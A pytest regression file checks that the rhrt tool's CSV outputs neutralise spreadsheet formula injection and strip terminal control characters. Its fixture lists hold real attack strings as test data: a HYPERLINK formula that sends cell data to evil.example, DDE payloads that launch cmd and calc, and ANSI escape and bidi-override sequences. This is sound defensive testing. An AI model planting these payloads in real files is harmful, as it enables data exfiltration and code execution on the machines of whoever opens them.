# SPDX-License-Identifier: MIT
"""Spreadsheet formula injection: no CSV rhrt writes can run a formula when opened.

Issue 12: ``case_ref`` and kept input columns were written unchanged to ``rhrt batch`` CSV
output, and ``audit --tables`` wrote ``review.csv``/``by_source.csv`` the same way, so
``=HYPERLINK("http://…?d="&A1,"open")`` ran when an analyst opened the file in Excel. Text cells
beginning with ``= + - @``, tab or carriage return now get a ``'`` before them (OWASP); numbers
stay numbers. Every check reads the file back with the ``csv`` module, as a spreadsheet would.

Issue (terminal control): the same cells carried raw ESC, BEL and U+202E, so ``cat`` on the CSV
controlled the terminal. Every text cell and column name now passes through
:func:`rhrt._text.clean` first, so no CSV holds a control, format or line-break character.
"""

from __future__ import annotations

import csv
import gzip
import io
import math
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pa = pytest.importorskip("pyarrow")
pq = pytest.importorskip("pyarrow.parquet")
pytest.importorskip("numpy")

from rhrt._text import clean  # noqa: E402
from rhrt.batch import assess_file  # noqa: E402
from rhrt.batch._output import FORMULA_START, Writer, csv_safe_text  # noqa: E402
from rhrt.cli import main  # noqa: E402
from rhrt.ruleset import load_ruleset  # noqa: E402

MINIMAL = str(Path(__file__).parent / "rulesets" / "minimal.yaml")
RULES = load_ruleset(MINIMAL)
ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",  # regression: a leading line feed was written unchanged
    "\r\n=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u2028=1+1",
    "\x85=1+1",
    " \t\n@SUM(1)",
]


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    if path.name.endswith(".gz"):
        raw = gzip.decompress(raw)
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))


def risky(cell: str) -> bool:
    return cell[:1] in FORMULA_START and cell != ""


def is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def assert_no_formula(path: Path) -> None:
    """Every cell, header included, either starts harmlessly or is a plain number."""
    raw = path.read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    for row in rows:
        for cell in row:
            assert not risky(cell) or is_number(cell), (path.name, cell)


def assert_printable(cell: str) -> None:
    """No control, format, line-break or separator character other than a plain space
    (private-use and unassigned characters have no control meaning and are kept)."""
    bad = {"Cc", "Cf", "Cs", "Zl", "Zp", "Zs"}
    assert all(ch == " " or unicodedata.category(ch) not in bad for ch in cell), ascii(cell)


TERMINAL_ATTACKS = [
    "\x1b]0;owned\x07REF-1",  # OSC: set the window title
    "\x1b[2J\x1b[HREF-2",  # clear the screen
    "REF\x07-3",  # BEL
    "\u202eREF-4",  # right-to-left override (Trojan Source)
    "RE\u200bF-5\u2066",  # zero-width space, bidi isolate
    "\x9b31mREF-6",  # C1 CSI
    "REF\n-7\tx\r",  # newline, tab and carriage return inside a cell
    "\x85REF-8\u2028",
]


@pytest.mark.parametrize("suffix", [".csv", ".csv.gz"])
def test_batch_output_has_no_terminal_controls(tmp_path: Path, suffix: str) -> None:
    """Regression: ``cat`` on a batch CSV must not control the terminal: raw ESC, BEL, C1,
    bidi and zero-width characters and in-cell line breaks are cleaned out of every text cell
    (case_ref and kept columns) and column name."""
    source = tmp_path / "in.parquet"
    pq.write_table(pa.table({
        "case_ref": TERMINAL_ATTACKS,
        "referral_source": TERMINAL_ATTACKS,
        "age_years": [3] * len(TERMINAL_ATTACKS),
        "no\u202ete": TERMINAL_ATTACKS,
    }), source)
    out = tmp_path / f"levels{suffix}"
    assess_file(source, out, RULES, keep_input=True, ignore_columns=["no\u202ete"])
    raw = out.read_bytes()
    text = (gzip.decompress(raw) if suffix == ".csv.gz" else raw).decode("utf-8")
    body = text.replace("\r\n", "\n").replace("\n", "")
    assert_printable(body)
    rows = read_csv(out)
    assert [row["case_ref"] for row in rows] == [clean(a) for a in TERMINAL_ATTACKS]
    assert [row["referral_source"] for row in rows] == [clean(a) for a in TERMINAL_ATTACKS]
    assert "note" in rows[0]  # the column name lost its U+202E
    assert [row["note"] for row in rows] == [clean(a) for a in TERMINAL_ATTACKS]


def test_audit_tables_have_no_terminal_controls(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Regression: review.csv and by_source.csv carried raw ESC, BEL and U+202E."""
    pytest.importorskip("pandas")
    pytest.importorskip("matplotlib")
    source = tmp_path / "audit.csv"
    with source.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["case_ref", "referral_source", "age_years", "indicators",
                         "recorded_decision"])
        for attack in TERMINAL_ATTACKS:
            writer.writerow([attack, attack, "4", "bruise", "1"])
    tables = tmp_path / "tables"
    assert main(["audit", str(source), "--rules", MINIMAL, "--tables", str(tables)]) == 0
    capsys.readouterr()
    assert read_csv(tables / "review.csv") and read_csv(tables / "by_source.csv")
    for path in sorted(tables.glob("*.csv")):
        assert_printable(path.read_text(encoding="utf-8").replace("\r\n", "").replace("\n", ""))


def test_the_rule() -> None:
    for attack in ATTACKS:
        assert csv_safe_text(attack) == "'" + clean(attack)
    for harmless in ("", "A1", "police", "'=already quoted", "1-2", "a =1"):
        assert csv_safe_text(harmless) == harmless
    # a zero-width space is cleaned out, so the formula behind it is quoted
    assert csv_safe_text("\u200b=1") == "'=1"


def write_hostile(path: Path, last: str) -> Path:
    """A contacts CSV whose text cells are formula attacks; ``last`` names the last column
    (``extra``, holding the attack too, or ``recorded_decision``, always 1)."""
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["case_ref", "referral_source", "age_years", "indicators", last])
        for i, attack in enumerate(ATTACKS):
            writer.writerow([attack, attack, str(i + 1), "bruise",
                             attack if last == "extra" else "1"])
        writer.writerow(["SAFE-1", "school", "4", "", "plain" if last == "extra" else "1"])
    return path


@pytest.fixture
def hostile_csv(tmp_path: Path) -> Path:
    return write_hostile(tmp_path / "contacts.csv", "extra")


@pytest.mark.parametrize("keep_input", [False, True])
@pytest.mark.parametrize("suffix", [".csv", ".csv.gz"])
def test_batch_output_neutralises_case_ref_and_kept_columns(
    hostile_csv: Path, tmp_path: Path, keep_input: bool, suffix: str
) -> None:
    out = tmp_path / f"levels{suffix}"
    assess_file(hostile_csv, out, RULES, keep_input=keep_input, ignore_columns=["extra"])
    rows = read_csv(out)
    texts = ["case_ref", "referral_source", "extra"] if keep_input else ["case_ref"]
    for row, attack in zip(rows, [*ATTACKS, None], strict=True):
        for name in texts:
            if attack is None:
                assert not risky(row[name])
            else:
                assert row[name] == "'" + clean(attack)  # neutralised, otherwise unchanged
        assert row["level"] in {"1", "2", "3", "4"}
    if keep_input:
        ages = [str(i) for i in range(1, len(ATTACKS) + 1)]
        assert [row["age_years"] for row in rows] == [*ages, "4"]
    if suffix == ".csv":
        assert_no_formula(out)


def test_numbers_stay_numbers_text_that_looks_like_one_does_not(tmp_path: Path) -> None:
    source = tmp_path / "typed.parquet"
    pq.write_table(pa.table({
        "case_ref": ["-5", "A"],
        "age_years": [3, 4],
        "balance": pa.array([-5, 7], pa.int64()),
        "score": pa.array([-1.5, 2.0]),
        "note": ["-5", "fine"],
    }), source)
    out = tmp_path / "out.csv"
    assess_file(source, out, RULES, keep_input=True, ignore_columns=["balance", "score", "note"])
    rows = read_csv(out)
    assert [r["balance"] for r in rows] == ["-5", "7"]
    assert [float(r["score"]) for r in rows] == [-1.5, 2.0]
    assert [r["note"] for r in rows] == ["'-5", "fine"]
    assert [r["case_ref"] for r in rows] == ["'-5", "A"]


def test_column_names_are_neutralised_too(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    writer = Writer(out)
    writer.write(pa.table({"=cmd()": ["x"], "ok": [1]}))
    writer.close()
    assert out.read_text().splitlines()[0] == '"\'=cmd()","ok"'


def test_audit_and_diff_tables_are_neutralised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("pandas")
    pytest.importorskip("matplotlib")
    # a recorded level of 1 under a framework level above it is an under-assessment, so the
    # hostile rows reach review.csv
    source = write_hostile(tmp_path / "audit.csv", "recorded_decision")
    tables = tmp_path / "tables"
    assert main(["audit", str(source), "--rules", MINIMAL, "--tables", str(tables)]) == 0
    review = read_csv(tables / "review.csv")
    by_source = read_csv(tables / "by_source.csv")
    assert review and by_source
    refs = {row["case_ref"] for row in review}
    assert refs & {"'" + clean(a) for a in ATTACKS}  # the hostile rows are there, neutralised
    assert {row["referral_source"] for row in by_source} & {"'" + clean(a) for a in ATTACKS}
    diff_tables = tmp_path / "diff"
    assert main(["diff", MINIMAL, MINIMAL, str(source), "--tables", str(diff_tables)]) == 0
    for folder in (tables, diff_tables):
        written = sorted(folder.glob("*.csv"))
        assert written
        for path in written:
            assert_no_formula(path)
    capsys.readouterr()


def test_synth_csv_has_no_formula(tmp_path: Path) -> None:
    out = tmp_path / "synth.csv"
    assert main(["synth", "500", "--out", str(out), "--rules", MINIMAL]) == 0
    assert_no_formula(out)


# -- the property -----------------------------------------------------------------------------

TEXT = st.text(
    alphabet=st.one_of(st.sampled_from([*FORMULA_START, "'", '"', ",", "\n", " "]),
                       st.characters(codec="utf-8")),
    max_size=12,
)
SIGNS = "=+-@"
# what a spreadsheet may strip or skip before looking for a formula sign: any run of these
SKIPPABLE = st.text(
    alphabet=st.one_of(st.sampled_from(" \t\r\n\x00\x0b\x0c\x85\u00a0\u2028\u3000"),
                       st.characters(categories=["Cc", "Zs", "Zl", "Zp"])),
    min_size=1, max_size=4,
)


@settings(max_examples=300, deadline=None)
@given(lead=SKIPPABLE, sign=st.sampled_from(SIGNS), rest=st.text(max_size=8))
def test_any_leading_whitespace_or_control_before_a_formula_is_neutralised(
    lead: str, sign: str, rest: str
) -> None:
    """Whatever a spreadsheet strips first (tab, CR, LF, NUL, spaces, Unicode line breaks…),
    the cell is written behind a ``'`` and so stays text."""
    cell = lead + sign + rest
    out = csv_safe_text(cell)
    # cleaned first (a C1 CSI may swallow the sign as part of its escape sequence), then quoted
    kept = clean(cell)
    assert out == ("'" + kept if kept[:1] in FORMULA_START and kept else kept)
    assert not risky(out)
    if kept and kept[0] in SIGNS:
        assert out[:1] == "'"


@settings(max_examples=300, deadline=None)
@given(text=TEXT)
def test_no_cell_reveals_a_formula_after_stripping(text: str) -> None:
    """Either a cell is quoted, or stripping every leading control and whitespace character
    leaves it starting with something other than a formula sign (and it is unchanged)."""
    out = csv_safe_text(text)
    text = clean(text)
    if out != text:
        assert out == "'" + text
    else:
        stripped = text.lstrip("".join(ch for ch in FORMULA_START if ch not in SIGNS))
        assert stripped[:1] not in SIGNS or stripped == ""
        assert text[:1] not in FORMULA_START or text == ""
    assert_printable(out)


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    names=st.lists(TEXT.filter(bool), min_size=3, max_size=3, unique=True),
    texts=st.lists(st.none() | TEXT, min_size=1, max_size=6),
    data=st.data(),
)
def test_every_cell_read_back_is_formula_free_unless_numeric(
    tmp_path_factory: pytest.TempPathFactory, names: list[str], texts: list[str | None],
    data: st.DataObject,
) -> None:
    """Whatever text a table holds, every text cell and column name rhrt writes reads back
    without a leading formula character (its original behind one ``'`` when it had one), and
    numeric columns read back as the same numbers, negative ones included."""
    n = len(texts)
    ints = data.draw(st.lists(st.integers(-(2**62), 2**62), min_size=n, max_size=n))
    floats = data.draw(st.lists(st.floats(allow_nan=False, allow_infinity=False, width=32),
                                min_size=n, max_size=n))
    if len({csv_safe_text(x) for x in names}) < 3:
        return  # two names that neutralise to the same header cannot be told apart
    table = pa.table({names[0]: pa.array(texts, pa.string()), names[1]: ints,
                      names[2]: pa.array(floats, pa.float64())})
    out = tmp_path_factory.mktemp("prop") / "t.csv"
    writer = Writer(out)
    writer.write(table)
    writer.close()
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert rows[0] == [csv_safe_text(x) for x in names]
    for cell in rows[0]:
        assert not risky(cell)
    assert len(rows) == n + 1
    for row, text, whole, real in zip(rows[1:], texts, ints, floats, strict=True):
        assert not risky(row[0])
        want = "" if text is None else clean(text)
        assert row[0] == (("'" + want) if want[:1] in FORMULA_START and want else want)
        assert int(row[1]) == whole
        assert float(row[2]) == real


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(refs=st.lists(TEXT, min_size=1, max_size=5))
def test_batch_case_refs_read_back_formula_free(
    tmp_path_factory: pytest.TempPathFactory, refs: list[str]
) -> None:
    """Through the batch engine (Parquet in, CSV out): any case reference is neutralised."""
    folder = tmp_path_factory.mktemp("batch")
    source = folder / "in.parquet"
    pq.write_table(pa.table({"case_ref": refs, "age_years": [3] * len(refs)}), source)
    out = folder / "out.csv"
    assess_file(source, out, RULES)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    got = [row[0] for row in rows[1:]]
    assert got == [csv_safe_text(r) for r in refs]
    assert not any(risky(cell) for row in rows for cell in row[:1])
